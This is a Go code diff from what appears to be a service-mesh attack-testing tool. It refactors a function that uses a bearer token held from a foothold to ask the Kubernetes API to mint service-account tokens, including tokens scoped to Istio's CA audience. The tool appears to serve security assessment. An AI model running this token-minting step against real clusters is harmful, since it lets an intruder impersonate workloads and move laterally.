@@ -10,9 +10,6 @@ import (
 	"github.com/meshbreach/meshbreach/attacker"
 )
 
-// audienceIstio is what istiod asks of a token.
-const audienceIstio = "istio-ca"
-
 // account is the namespace/account of a cast member on the platform.
 func account(t attacker.Target, name string) (string, error) {
 	if name == "" {
@@ -21,7 +18,7 @@ func account(t attacker.Target, name string) (string, error) {
 	if t.Authority.Platform == "" {
 		return "", errors.New("there is no platform whose API workloads could reach")
 	}
-	a, ok := t.Authority.Accounts[name]
+	a, ok := t.Accounts[name]
 	if !ok {
 		return "", fmt.Errorf("nobody knows the account of %q", name)
 	}
@@ -32,15 +29,15 @@ func account(t attacker.Target, name string) (string, error) {
 // travels as the user agent, which the API writes down.
 func (a asking) minted(ctx context.Context, f attacker.Foothold, nonce string) (string, attacker.Observation) {
 	namespace, name, _ := strings.Cut(a.mint, "/")
-	spec := "{}" // for the platform itself, which is whom Consul asks about it
-	if a.authority.Protocol == protocolIstio {
-		spec = `{"audiences":["` + audienceIstio + `"]}`
+	spec := "{}"
+	if audience := a.protocol.TokenAudience(); audience != "" {
+		spec = `{"audiences":["` + audience + `"]}`
 	}
 	body, o := f.Fetch(ctx, attacker.Request{
-		Nonce: nonce, Address: a.authority.Platform, Protocol: attacker.ProtocolHTTP2, Method: "POST",
+		Nonce: nonce, Address: a.request.Authority.Platform, Protocol: attacker.ProtocolHTTP2, Method: "POST",
 		Path: "/api/v1/namespaces/" + namespace + "/serviceaccounts/" + name + "/token",
 		Headers: map[string][]string{
-			"authorization": {"Bearer " + a.token}, "content-type": {"application/json"}, "user-agent": {nonce},
+			"authorization": {"Bearer " + a.request.Token}, "content-type": {"application/json"}, "user-agent": {nonce},
 		},
 		Body: `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":` + spec + `}`,
 		TLS:  &attacker.TLS{ServerName: "kubernetes.default.svc", ALPN: []string{"h2"}},
